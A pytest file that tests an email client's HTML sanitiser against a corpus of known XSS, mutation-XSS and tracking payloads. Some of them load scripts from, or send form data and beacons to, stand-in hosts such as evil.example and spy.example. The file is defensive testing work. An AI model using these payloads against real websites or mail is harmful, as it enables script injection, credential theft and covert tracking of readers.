# SPDX-FileCopyrightText: The Mailroom authors
# SPDX-License-Identifier: Apache-2.0
"""What hostile HTML becomes. The corpus is of the known kinds: scripts, handlers, odd schemes, CSS that loads or runs,
frames and forms, and markup that changes its meaning when it is parsed again.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailroom.web.mail import clean
from mailroom.web.mail.clean import HTML_READ

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<scr<style></style>ipt>alert(1)</script>",
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<p onmouseover\n=\n'alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' target='_self' rel='opener' ping='http://evil.example'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,AAAA\" onerror=alert(1)'>",
    "<img src=http://spy.example/a.png srcset='http://spy.example/b.png 2x' lowsrc=http://spy.example/c>",
    "<picture><source srcset=http://spy.example/a.png><img></picture>",
    "<table background='http://spy.example/t.png'><td background='http://spy.example/u.png'>x</td></table>",
    "<video poster=http://spy.example/p src=http://spy.example/v autoplay></video><audio src=http://spy.example/a>",
    "<svg onload=alert(1)><animate xlink:href=#a attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><script>alert(1)</script></svg><svg><use href='http://evil.example/x.svg#a'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<form action=http://evil.example><input type=password><button formaction=javascript:x>ok</button></form>",
    "<iframe src=http://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example><embed src=http://evil.example></object><applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://spy.example/>",
    "<style>@import 'http://evil.example/x.css'; p{background:url(http://spy.example/)}</style>",
    "<p style='background:url(http://spy.example/a.png)'>x</p>",
    "<p style='background-image:u\\72l(http://spy.example/a.png)'>x</p>",
    "<p style='color:red;list-style:url(http://spy.example)'>x</p>",
    "<p style='border-image:url(http://spy.example)'>x</p>",
    "<p style='content:image-set(\"http://spy.example\" 1x)'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
    "<p id=main class='btn' name=x data-x=1 aria-label=x role=alert is=x>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><?php echo 1 ?>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a title='`onmouseover=alert(1)`'>x</a><plaintext><script>alert(1)",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>",
    "<x-custom onclick=alert(1)>x</x-custom><slot name=x></slot>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<p style='color:red",
    "<" * 1000,
)


class Inspector(HTMLParser):
    """Parses as another program would, and refuses whatever could load or run."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[object] = []

    def handle_endtag(self, tag: str) -> None:
        self.seen.append(tag)

    def handle_data(self, data: str) -> None:
        self.seen.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in clean._TAGS
        self.seen.append((tag, sorted(attrs)))
        for name, value in attrs:
            assert not name.startswith("on")
            assert name in {"href", "src", "target", "rel"} | set().union(*clean._ATTRIBUTES.values())
            said = (value or "").lower()
            match name:
                case "href":
                    assert said.strip().startswith(("http:", "https:", "mailto:", "tel:"))
                case "src":
                    assert said.startswith(("data:image/png", "data:image/jp", "data:image/gif", "data:image/webp"))
                case "style":
                    for active in ("url", "expression", "import", "\\", "position", "behavior", "binding", "image"):
                        assert active not in said
                case "target":
                    assert said == "_blank"
                case "rel":
                    assert said == "noopener noreferrer"

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def inspect(html: str) -> list[object]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.seen


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_runs_or_loads_is_left(hostile: str) -> None:
    html = clean.clean(hostile, {}).html
    inspect(html)
    assert "<script" not in html.lower()
    assert "spy.example" not in html
    # What is clean says the same when it is parsed again.
    assert inspect(clean.clean(html, {}).html) == inspect(html)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nor_when_it_stands_within_something_else(hostile: str) -> None:
    for around in ("<table><tr><td>{}</td></tr></table>", "<b><p>{}", "<svg>{}</svg>", '<p title="{}">', "<style>{}"):
        inspect(clean.clean(around.replace("{}", hostile), {}).html)


@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<svg>", "<math>", "'", '"', ">", "<!--", "--"])))
def test_nor_when_hostile_things_are_strung_together(pieces: list[str]) -> None:
    inspect(clean.clean("".join(pieces), {}).html)


@given(st.text())
def test_any_text_can_be_cleaned(text: str) -> None:
    inspect(clean.clean(text, {}).html)


def test_what_letters_are_made_of_stays() -> None:
    letter = (
        '<h1 style="color:#333;text-align:center">Hi</h1><table width="600" cellpadding="0"><tbody><tr>'
        '<td bgcolor="#eeeeee" colspan="2"><b>bold</b> <font color="red">red</font></td></tr></tbody></table>'
        '<ul><li>one</li></ul><blockquote dir="rtl">said</blockquote>'
    )
    assert clean.clean(letter, {}).html == letter
    linked = clean.clean('<a href="https://ok.example/?a=1&amp;b=2">x</a><a href="mailto:a@b.example">y</a>', {}).html
    assert 'href="https://ok.example/?a=1&amp;b=2"' in linked
    assert linked.count('target="_blank"') == 2
    assert linked.count('rel="noopener noreferrer"') == 2


def test_pictures_elsewhere_are_counted_and_those_within_are_shown() -> None:
    source = '<img src="http://a/1"><img src="//b/2"><img src=x.png><img src="cid:p@q"><img src="cid:gone">'
    cleaned = clean.clean(source, {"p@q": "data:image/png;base64,AAAA"})
    assert cleaned.blocked == 3
    assert '<img src="data:image/png;base64,AAAA">' in cleaned.html
    assert clean.references(source) == ("p@q", "gone")
    within = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    assert clean.clean(within, {}).html == within


def test_a_long_letter_is_cut() -> None:
    assert clean.clean("<p>x</p>" * HTML_READ, {}).is_cut
    assert not clean.clean("<style>" + " " * HTML_READ + "</style><p>x</p>", {}).is_cut


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>",
        "<b><p>",
        "<table><tr><td>",
        "<font color=red><div>",
        "<a href=x><b>",
        "<svg><g>",
        "<!--",
        "<p a='",
        "&lt;",
    ],
)
def test_a_bomb_ends_in_bounded_time(bomb: str) -> None:
    began = time.monotonic()
    clean.clean(bomb * (HTML_READ // len(bomb) * 2), {})
    assert time.monotonic() - began < 60  # a hang shows; a slow machine does not
